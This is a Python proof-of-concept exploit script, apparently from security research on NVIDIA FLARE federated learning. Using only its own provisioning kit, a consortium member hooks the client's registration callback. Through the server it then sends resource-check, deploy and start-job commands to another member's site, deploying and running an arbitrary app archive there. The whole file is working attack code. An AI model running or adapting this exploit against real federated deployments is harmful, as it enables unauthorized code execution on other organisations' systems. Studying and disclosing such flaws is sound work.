"""Used by b08: another MEMBER of the consortium, with nothing but its own kit, sends commands of the server to a site.

`python member_client.py KIT NAME VICTIM APP_ZIP` starts FLARE's client with the member's own certificate; once it is
registered, it sends `scheduler.check_resource`, `train.deploy` and `train.start_job` to the victim. The server
forwards them.
"""

from __future__ import annotations

import os
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Any

from nvflare.apis.job_def import JobMetaKey
from nvflare.fuel.f3.mpm import MainProcessMonitor
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, RequestHeader, TrainingTopic, new_cell_message
from nvflare.private.fed.app.client import client_train
from nvflare.private.fed.client.admin import FedAdminAgent
from nvflare.private.scheduler_constants import ShareableHeader

KIT, NAME, VICTIM, APP = sys.argv[1:5]
begun = threading.Lock()


def ask(cell: Any, topic: str, body: Any, headers: dict[str, Any]) -> Any:
    """One command to the victim's parent process; the origin of this message is the member, and nobody looks."""
    message = Message(topic=topic, body=body)
    for name, value in headers.items():
        message.set_header(name, value)
    request = new_cell_message({}, message)
    reply = cell.send_request(
        channel=CellChannel.CLIENT_MAIN, topic=topic, target=VICTIM, request=request, timeout=10.0
    )
    return reply.payload.body if isinstance(reply.payload, Message) else str(reply.headers)


def attack(cell: Any) -> None:
    """Wait for the log-in, deploy, start, and leave."""
    if not begun.acquire(blocking=False):
        return
    time.sleep(6.0)
    job = str(uuid.uuid4())
    meta = {JobMetaKey.JOB_ID.value: job, "name": "x", "deploy_map": {"app": [VICTIM]}, "resource_spec": {}}
    meta |= {JobMetaKey.SUBMITTER_NAME.value: NAME, JobMetaKey.SUBMITTER_ORG.value: NAME}
    headers = {RequestHeader.JOB_ID: job, RequestHeader.JOB_META: meta, RequestHeader.APP_NAME: "app"}
    try:
        room = ask(cell, TrainingTopic.CHECK_RESOURCE, {}, headers)
        headers[ShareableHeader.RESOURCE_RESERVE_TOKEN] = room.get_header(ShareableHeader.RESOURCE_RESERVE_TOKEN)
        print(f"MEMBER {TrainingTopic.CHECK_RESOURCE} -> a token", flush=True)
        for topic, body in ((TrainingTopic.DEPLOY, Path(APP).read_bytes()), (TrainingTopic.START_JOB, {})):
            print(f"MEMBER {topic} -> {ask(cell, topic, body, headers)}", flush=True)
        time.sleep(3.0)
    finally:
        os._exit(0)


registered = FedAdminAgent.register_cell_cb


def watched(agent: Any) -> None:
    """FLARE's own registration, and then the attack."""
    registered(agent)
    threading.Thread(target=attack, args=(agent.cell,), daemon=True).start()


FedAdminAgent.register_cell_cb = watched
settings = ["secure_train=true", f"uid={NAME}", f"org=site_{NAME}", "config_folder=config"]
sys.argv = ["client_train", "-m", KIT, "-s", "fed_client.json", "--set", *settings]
sys.exit(MainProcessMonitor.run(main_func=client_train.main, run_dir=KIT, args=client_train.parse_arguments()))
